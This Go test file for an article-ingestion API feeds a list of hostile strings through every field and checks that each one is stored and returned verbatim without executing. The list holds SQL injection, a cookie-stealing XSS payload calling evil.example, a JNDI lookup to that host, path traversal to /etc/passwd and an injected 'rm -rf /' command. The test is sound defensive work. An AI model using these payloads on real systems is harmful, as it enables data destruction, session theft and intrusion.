package handlers_test

import (
	"net/http"
	"net/url"
	"strconv"
	"testing"
)

// hostileStrings look like SQL, HTML, scripts, template and format
// directives, path tricks and shell: they must be stored and returned
// exactly as sent, and never act.
var hostileStrings = []string{
	`'; DROP TABLE articles; --`,
	`" OR 1=1 --`,
	`1); DELETE FROM articles WHERE (1=1`,
	`$1 $$ $tag$ \x00? E'\\'`,
	`<script>alert("x")</script>`,
	`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
	`{{.Env}} ${jndi:ldap://evil.example/a} %s%n%x`,
	`../../etc/passwd`,
	"`rm -rf /`; $(reboot)",
	`\u0000 is not a NUL here`,
	"新华社“北京”电（记者 <b>王伟</b>）& 'quotes'",
}

// TestHostileStringsRoundTrip stores every hostile string in every text
// field and reads it back through every route that returns it.
func TestHostileStringsRoundTrip(t *testing.T) {
	t.Parallel()
	s := newServer(t)
	body := "北京时间5月11日，国家统计局发布数据显示，全国居民消费价格同比上涨，其中城市上涨，农村上涨。食品价格上涨，非食品价格上涨。"
	for i, h := range hostileStrings {
		externalID := h + " #" + strconv.Itoa(i)
		a := map[string]any{
			"external_id": externalID,
			"source":      h,
			"title":       h,
			"url":         h,
			"body":        h + "\n" + body + strconv.Itoa(i),
		}
		v := s.ingest(t, a, http.StatusCreated)
		if v.ExternalID != externalID || v.Source != h {
			t.Errorf("%q: verdict echoes external_id %q source %q", h, v.ExternalID, v.Source)
		}
		byID := decode[storedArticle](t, s.get(t, "/v1/articles/"+strconv.FormatInt(*v.ID, 10)))
		q := url.Values{"source": {h}, "external_id": {externalID}}
		byKey := decode[storedArticle](t, s.get(t, "/v1/articles?"+q.Encode()))
		for _, got := range []storedArticle{byID, byKey} {
			if got.ID != *v.ID || got.ExternalID != externalID || got.Source != h || got.Title != h || got.URL != h {
				t.Errorf("%q: read back %+v, want every field verbatim", h, got)
			}
		}
	}

	// The table is still there and holds one row per string: nothing ran.
	r := s.get(t, "/readyz")
	wantStatus(t, "readyz after hostile strings", r, http.StatusOK)
	last := hostileStrings[len(hostileStrings)-1]
	q := url.Values{"source": {last}, "external_id": {last + " #" + strconv.Itoa(len(hostileStrings)-1)}}
	wantStatus(t, "the last article", s.get(t, "/v1/articles?"+q.Encode()), http.StatusOK)

	// A browser must not sniff a stored script into HTML.
	if got := s.get(t, "/v1/articles/1").header.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("X-Content-Type-Options = %q, want nosniff", got)
	}
}
